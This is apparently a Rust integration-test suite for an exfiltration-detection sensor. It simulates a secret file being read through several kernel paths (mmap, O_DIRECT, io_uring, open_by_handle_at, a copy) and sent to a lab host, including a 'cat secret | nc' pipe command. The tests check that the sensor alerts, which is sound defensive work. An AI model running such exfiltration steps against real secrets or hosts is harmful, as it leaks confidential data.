//! The in-guest cases: what proves a backend on a kernel. Each triggers the path it names
//! with busybox tools or the actor and expects the sensor's document; the one negative case
//! first sees the sensor report the process it stays silent about.

use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{anyhow, bail, ensure, Context, Result};
use integration_tests::host_tools::{self, quoted};
use integration_tests::ring_overflow::{self, SMALLEST_RING};
use integration_tests::{alert, Actor, Lab, Sensor};
use serde_json::Value;

/// How long a case waits for a document it caused: the guest runs under TCG, far slower than
/// the host the integration tests' timeouts are set for.
const GUEST_TIMEOUT: Duration = Duration::from_mins(1);
/// Content of the benign control's file: nothing any rule watches.
const BENIGN_CONTENT: &str = "motd: nothing to see here\n";

/// One case of the suite.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Case {
    /// `sensor-started` names the backend the kernel table expects.
    Backend,
    /// The actor reads the secret and connects to the remote host.
    DirectRead,
    /// The actor maps the secret and touches every byte, no `read`, then connects.
    Mmap,
    /// The actor reads the secret with `O_DIRECT`, bypassing the page cache, then connects.
    DirectIo,
    /// `cat SECRET | nc REMOTE PORT`: nc is tainted through the pipe.
    Pipe,
    /// `cp SECRET COPY`, then another process reads the copy and sends.
    DerivedFile,
    /// The secret read with `IORING_OP_OPENAT` + `IORING_OP_READ`, no `open`/`read` syscall.
    IoUring,
    /// The secret opened with `open_by_handle_at`, never by its path.
    OpenByHandle,
    /// A file that is no secret sent to the remote host: the process is seen, no alert.
    Benign,
    /// `sensor-stopped` reports the agent's counters.
    Counters,
    /// A full ring buffer is reported (`events-lost`) and its lost connect alerted late.
    Loss,
}

impl Case {
    /// The case called `name` on the command line.
    pub fn named(name: &str) -> Option<Self> {
        let case = match name {
            "backend" => Case::Backend,
            "direct-read" => Case::DirectRead,
            "mmap" => Case::Mmap,
            "o-direct" => Case::DirectIo,
            "pipe" => Case::Pipe,
            "derived-file" => Case::DerivedFile,
            "io-uring" => Case::IoUring,
            "open-by-handle" => Case::OpenByHandle,
            "benign" => Case::Benign,
            "counters" => Case::Counters,
            "loss" => Case::Loss,
            _ => return None,
        };
        Some(case)
    }
}

/// The lab and the sensor the cases share, set up by the first case that needs them.
pub struct World {
    actor: PathBuf,
    /// `vigie run --backend` of every sensor.
    backend: String,
    /// What `sensor-started` must name.
    expected_backend: String,
    lab: Option<Lab>,
    sensor: Option<Sensor>,
    /// Why the shared sensor did not start: the later cases fail at once with it.
    setup_failed: Option<String>,
}

impl World {
    /// A world whose actor is at `actor` and whose sensor, started with `--backend backend`,
    /// must report `expected_backend`.
    pub fn new(actor: impl Into<PathBuf>, backend: &str, expected_backend: &str) -> Self {
        World {
            actor: actor.into(),
            backend: backend.to_owned(),
            expected_backend: expected_backend.to_owned(),
            lab: None,
            sensor: None,
            setup_failed: None,
        }
    }

    /// Runs `case`.
    ///
    /// # Errors
    /// When the world cannot be set up or the case's expectation fails.
    pub fn run(&mut self, case: Case) -> Result<()> {
        match case {
            Case::Backend => self.backend(),
            Case::DirectRead => self.expect_alert(|lab| lab.actor().read(lab.secret())),
            Case::Mmap => self.expect_alert(|lab| lab.actor().mmap(lab.secret())),
            Case::DirectIo => self.expect_alert(|lab| lab.actor().read_direct(lab.secret())),
            Case::Pipe => self.pipe(),
            Case::DerivedFile => self.derived_file(),
            Case::IoUring => self.expect_alert(|lab| lab.actor().uring_read(lab.secret())),
            Case::OpenByHandle => self.expect_alert(|lab| lab.actor().read_by_handle(lab.secret())),
            Case::Benign => self.benign(),
            Case::Counters => self.counters(),
            Case::Loss => self.loss(),
        }
    }

    /// Stops the shared sensor, if one still runs.
    pub fn finish(&mut self) {
        if let Some(mut sensor) = self.sensor.take() {
            let _ = sensor.stop();
        }
    }

    fn lab(&mut self) -> Result<&Lab> {
        if self.lab.is_none() {
            self.lab = Some(Lab::new(&self.actor).context("set up the lab")?);
        }
        self.lab.as_ref().context("the lab was just set up")
    }

    /// The lab and its running sensor.
    fn world(&mut self) -> Result<(&Lab, &Sensor)> {
        if let Some(failure) = &self.setup_failed {
            bail!("set up earlier and failed: {failure}");
        }
        if self.sensor.is_none() {
            let backend = self.backend.clone();
            let started =
                self.lab().and_then(|lab| lab.sensor_with(&["--backend", &backend]).context("start vigie"));
            match started {
                Ok(sensor) => self.sensor = Some(sensor),
                Err(error) => {
                    self.setup_failed = Some(format!("{error:#}"));
                    return Err(error);
                }
            }
        }
        match (&self.lab, &self.sensor) {
            (Some(lab), Some(sensor)) => Ok((lab, sensor)),
            _ => Err(anyhow!("the lab and sensor were just set up")),
        }
    }

    fn backend(&mut self) -> Result<()> {
        let expected = self.expected_backend.clone();
        let (_, sensor) = self.world()?;
        let started = sensor.expect(alert::is_sensor_started, GUEST_TIMEOUT)?;
        let chosen = started.pointer("/vigie/backend/name").and_then(Value::as_str);
        let reason = started.pointer("/vigie/backend/reason").and_then(Value::as_str).unwrap_or("");
        ensure!(chosen == Some(expected.as_str()), "backend {chosen:?}, expected {expected:?} ({reason})");
        println!("VIGIE-INFO backend {expected}: {reason}");
        Ok(())
    }

    /// The actor of `steps` sends to the remote host: its alert names the secret.
    fn expect_alert(&mut self, steps: impl FnOnce(&Lab) -> Actor) -> Result<()> {
        let (lab, sensor) = self.world()?;
        let run = steps(lab).tcp(lab.remote().tcp_v4()).run()?;
        let alert = sensor.expect(alert::is_exfiltration_by(run.pid), GUEST_TIMEOUT)?;
        ensure!(alert::file_path(&alert) == lab.secret().to_str(), "the secret is named: {alert}");
        Ok(())
    }

    fn pipe(&mut self) -> Result<()> {
        let (lab, sensor) = self.world()?;
        let dest = lab.remote().tcp_v4();
        // nc sends what cat wrote, then -w 1 ends it once the remote is idle.
        host_tools::sh(&format!("cat {} | nc -w 1 {} {}", quoted(lab.secret()), dest.ip(), dest.port()))?;
        // The earlier cases' alerts went to the same address: nc's is the one through a pipe.
        let through_pipe =
            |line: &Value| alert::is_exfiltration_to(dest)(line) && alert::via_kind(line) == Some("pipe");
        let alert = sensor.expect(through_pipe, GUEST_TIMEOUT)?;
        ensure!(alert::file_path(&alert) == lab.secret().to_str(), "the secret is named: {alert}");
        Ok(())
    }

    fn derived_file(&mut self) -> Result<()> {
        let (lab, sensor) = self.world()?;
        let copy = lab.dir().join("copy");
        host_tools::run("cp", &[lab.secret(), copy.as_path()])?;
        let run = lab.actor().read(&copy).tcp(lab.remote().tcp_v4()).run()?;
        let alert = sensor.expect(alert::is_exfiltration_by(run.pid), GUEST_TIMEOUT)?;
        ensure!(alert::via_kind(&alert) == Some("file"), "tainted through the copy: {alert}");
        ensure!(alert::via_path(&alert) == copy.to_str(), "the copy is named: {alert}");
        ensure!(alert::file_path(&alert) == lab.secret().to_str(), "the secret is named: {alert}");
        Ok(())
    }

    /// The process sends a plain file, then reads the secret: the sensor reports that read, so
    /// it saw the process after its send, and the barrier's alert comes with none for it.
    fn benign(&mut self) -> Result<()> {
        let (lab, sensor) = self.world()?;
        let plain = lab.dir().join("motd");
        fs::write(&plain, BENIGN_CONTENT)?;
        let run = lab.actor().read(&plain).tcp(lab.remote().tcp_v4()).read(lab.secret()).run()?;
        sensor
            .expect(alert::is_secret_read_by(run.pid), GUEST_TIMEOUT)
            .context("the secret-read after the send")?;
        lab.assert_no_alert_for(sensor, run.pid)
    }

    fn counters(&mut self) -> Result<()> {
        self.world()?;
        let mut sensor = self.sensor.take().context("the sensor runs")?;
        sensor.stop()?;
        let stopped = sensor.expect(alert::is_sensor_stopped, GUEST_TIMEOUT)?;
        let counters = stopped.pointer("/vigie/counters").context("sensor-stopped has vigie.counters")?;
        let records = counters.pointer("/records").and_then(Value::as_u64);
        ensure!(records.is_some_and(|records| records > 0), "records counted: {counters}");
        ensure!(alert::lost_at_stop(&stopped).is_some(), "events_lost counted: {counters}");
        println!("VIGIE-INFO counters {counters}");
        Ok(())
    }

    /// As `lost_records` on the host: the ring fills while the agent is paused.
    fn loss(&mut self) -> Result<()> {
        let backend = self.backend.clone();
        let lab = self.lab()?;
        let sensor = lab.sensor_with(&["--backend", &backend, "--ring-buffer-bytes", SMALLEST_RING])?;
        let dest = lab.remote().tcp_v4();
        let thief = ring_overflow::while_full(&sensor, || {
            lab.actor().read(lab.secret()).open_tcp(dest).send(1_000).run()
        })?;
        let lost = sensor.expect(alert::is_events_lost, GUEST_TIMEOUT).context("events-lost")?;
        ensure!(alert::loss(&lost).is_some_and(|loss| loss.new > 0), "a count of lost records: {lost}");
        let late = sensor
            .expect(alert::is_exfiltration_by(thief.pid), GUEST_TIMEOUT)
            .context("the lost connect's late alert")?;
        let recovered = late.pointer("/vigie/recovered").and_then(Value::as_str);
        ensure!(recovered == Some("kernel-send-totals"), "the late alert says so: {late}");
        ensure!(alert::file_path(&late) == lab.secret().to_str(), "the secret is named: {late}");
        Ok(())
    }
}
